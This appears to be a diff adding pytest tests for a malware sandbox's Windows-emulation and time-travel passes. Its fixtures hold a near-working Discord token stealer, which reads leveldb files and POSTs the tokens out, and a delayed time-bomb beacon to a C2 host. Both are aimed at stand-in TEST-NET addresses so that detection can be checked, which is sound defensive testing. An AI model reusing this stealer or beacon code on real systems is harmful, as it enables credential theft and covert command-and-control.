@@ -1,0 +1,175 @@
+"""Extra passes (real engine): the Windows-stealer emulation pass and the time-travel
+pass re-run startup and import in the same container; their findings say which pass
+saw them and rest on that pass's events alone.
+
+Fixtures are defanged and built here: they only ever talk to TEST-NET addresses,
+which the network-less sandbox's sinkhole answers; nothing leaves the container.
+"""
+
+from __future__ import annotations
+
+import datetime
+import json
+import re
+import textwrap
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sandbox.models import DEFAULT_PASS, Phase, Report, Severity, Verdict
+from tests.conftest import run_cli
+from tests.fixtures.builders import Randomised, build_wheel
+
+pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")
+
+
+def _profile(tmp_path: Path, windows: str, time: str, extends: str = "default") -> Path:
+    path = tmp_path / f"passes-{windows}-{time}.toml"
+    path.write_text(
+        f'name = "passes-test"\nextends = "{extends}"\n\n[passes]\nwindows = "{windows}"\ntime = "{time}"\n'
+    )
+    return path
+
+
+def _vet(tmp_path: Path, name: str, src: str, *args: str) -> Report:
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
+    _code, report = run_cli(tmp_path, str(whl), *args)
+    assert report is not None
+    return report
+
+
+def _facts(report: Report, pass_name: str) -> dict[str, Any]:
+    imp = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == pass_name)
+    m = re.search(r"FACTS (\{.*\})", imp.output_tail)
+    assert m, imp.output_tail
+    facts: dict[str, Any] = json.loads(m.group(1))
+    return facts
+
+
+def _rows(report: Report) -> set[tuple[Phase, str]]:
+    return {(p.phase, p.pass_name) for p in report.phases}
+
+
+def test_windows_stealer_is_caught_in_the_windows_pass(tmp_path: Path) -> None:
+    r = Randomised()
+    host, hook = r.address(), f"/api/webhooks/{r.rng.randrange(10**17, 10**18)}/{r.name('h')}"
+    src = textwrap.dedent(f"""\
+        import json, os, re, socket
+        from ctypes import windll  # ImportError on Linux: the default pass stops here
+        from win32crypt import CryptUnprotectData
+
+        serial = windll.kernel32.GetVolumeInformationW(None, None, 0, None, None, None, None, 0)
+        path = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"
+        found = []
+        for name in os.listdir(path):
+            if name.endswith((".ldb", ".log")):
+                text = open(f"{{path}}\\\\{{name}}", errors="ignore").read()
+                found += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{25,110}}", text)
+        body = json.dumps({{"content": found, "pc": os.getenv("COMPUTERNAME")}}).encode()
+        s = socket.create_connection(({host!r}, 80), timeout=5)
+        s.sendall(b"POST {hook} HTTP/1.1\\r\\nHost: discord.invalid\\r\\nContent-Type: application/json\\r\\n"
+                  b"Content-Length: " + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
+        s.recv(100)
+        s.close()
+        windll.user32.MessageBoxW(0, "Installed", "Setup", 0)
+        print("FACTS " + json.dumps({{"tokens": len(found), "serial": serial}}))
+        """)
+    report = _vet(tmp_path, r.name("winst"), src)
+    assert (Phase.IMPORT, "windows") in _rows(report) and (Phase.STARTUP, "windows") in _rows(report)
+    win_import = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == "windows")
+    assert "Windows-only import" in win_import.pass_note and "windll" in win_import.pass_note
+    default_import = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == DEFAULT_PASS)
+    assert any("windll" in s.detail for s in default_import.steps), default_import.steps
+    assert _facts(report, "windows")["tokens"] == 1
+
+    assert report.verdict is Verdict.MALICIOUS
+    ps010 = [f for f in report.findings if f.rule_id == "PS010"]
+    assert ps010 and all(f.pass_name == "windows" for f in ps010), [(f.rule_id, f.pass_name) for f in ps010]
+    assert ps010[0].severity is Severity.CRITICAL and "windows pass" in ps010[0].message
+    assert all(e.pass_name == "windows" for e in ps010[0].evidence)
+    assert {f.rule_id for f in report.findings if f.pass_name == "windows"} >= {"PS010", "PS012"}
+    # the default pass alone saw nothing of it: none of its findings is about the token
+    assert not [f for f in report.findings if f.pass_name == DEFAULT_PASS and f.rule_id in ("PS010", "PS012")]
+
+    assert report.network is not None
+    x = next(x for x in report.network.exfiltration if x.canary == "discord token")
+    assert x.pass_name == "windows" and x.channel == "http" and x.destination == f"{host}:80"
+    assert "discord/Local Storage/leveldb" in x.location
+    reads = [rd for rd in report.network.honeytoken_reads if "discord" in rd.path]
+    assert reads and {rd.pass_name for rd in reads} == {"windows"}
+    # the default pass's events are never mixed in: every event the windows pass's
+    # finding cites is one of that pass's own
+    assert all(e.pass_name in (DEFAULT_PASS, "windows", "time") for e in report.events)
+    assert not [e for e in report.events if e.pass_name == DEFAULT_PASS and e.path and "discord" in e.path]
+
+
+def test_time_bomb_wakes_only_in_the_time_travel_pass(tmp_path: Path) -> None:
+    r = Randomised()
+    host, port = r.address(), r.rng.randrange(1025, 65000)
+    built = datetime.datetime.now() - datetime.timedelta(days=r.rng.randrange(1, 5))
+    src = textwrap.dedent(f"""\
+        import datetime, email.utils, json, socket, struct, time
+        BUILD_DATE = datetime.datetime({built.year}, {built.month}, {built.day})
+        facts = {{"now": time.time()}}
+        # ask the network for the date too (NTP), as careful time bombs do
+        q = b"\\x23" + b"\\0" * 47
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.settimeout(3)
+        try:
+            u.sendto(q, ({r.address()!r}, 123))
+            reply = u.recv(48)
+            facts["ntp"] = struct.unpack("!I", reply[40:44])[0] - 2208988800
+        except OSError as exc:
+            facts["ntp_error"] = str(exc)
+        if datetime.datetime.now() > BUILD_DATE + datetime.timedelta(days=30):
+            time.sleep(120)  # a patient payload: shortened in the time-travel pass
+            s = socket.create_connection(({host!r}, {port}), timeout=5)
+            s.sendall(b"GET /beacon?v=1 HTTP/1.1\\r\\nHost: c2.invalid\\r\\n\\r\\n")
+            head = s.recv(400).decode("latin-1")
+            s.close()
+            date = re.search(r"Date: (.*)\\r", head).group(1) if "Date:" in head else ""
+            facts["http_date"] = email.utils.parsedate_to_datetime(date).timestamp() if date else 0
+        print("FACTS " + json.dumps(facts))
+        """).replace("import datetime,", "import re, datetime,")
+    report = _vet(tmp_path, r.name("tbomb"), src, "--profile", str(_profile(tmp_path, "never", "always")))
+    assert (Phase.IMPORT, "time") in _rows(report)
+    assert not [p for p in report.phases if p.pass_name == "windows"]
+
+    real, shifted = _facts(report, DEFAULT_PASS), _facts(report, "time")
+    ahead = shifted["now"] - real["now"]
+    assert 29 * 86400 < ahead < 181 * 86400, ahead
+    assert "http_date" not in real  # the bomb did not go off in the default pass
+    assert abs(shifted["ntp"] - shifted["now"]) < 120, shifted  # the sinkhole's NTP agrees
+    assert abs(real["ntp"] - real["now"]) < 120, real
+    assert abs(shifted["http_date"] - shifted["now"]) < 300, shifted  # so does its HTTP Date
+
+    beacon = [e for e in report.events if e.address is not None and e.address.port == port]
+    assert beacon and {e.pass_name for e in beacon} == {"time"}
+    caught = [
+        f for f in report.findings if any(e.destination and str(port) in e.destination for e in f.evidence)
+    ]
+    assert caught and all(f.pass_name == "time" for f in caught), [(f.rule_id, f.pass_name) for f in caught]
+    assert report.verdict in (Verdict.MALICIOUS, Verdict.SUSPICIOUS)
+    assert report.network is not None
+    conn = next(c for c in report.network.connections if c.destination == f"{host}:{port}")
+    assert conn.pass_name == "time"
+
+
+def test_benign_package_stays_clean_with_both_passes_in_deep(tmp_path: Path) -> None:
+    r = Randomised()
+    name = r.name("plain")
+    src = "import json, os, time\nVALUE = json.dumps({'sep': os.sep, 't': time.time() > 0})\n"
+    code, report = run_cli(
+        tmp_path,
+        str(build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})),
+        "--profile",
+        str(_profile(tmp_path, "always", "always", extends="deep")),
+    )
+    assert report is not None
+    assert {(Phase.IMPORT, "windows"), (Phase.IMPORT, "time"), (Phase.STARTUP, "time")} <= _rows(report)
+    assert report.verdict is Verdict.CLEAN, [(f.rule_id, f.pass_name, f.message) for f in report.findings]
+    assert code == 0
+    assert all(p.status.value == "ok" for p in report.phases), [
+        (p.phase, p.pass_name, p.problems) for p in report.phases
+    ]
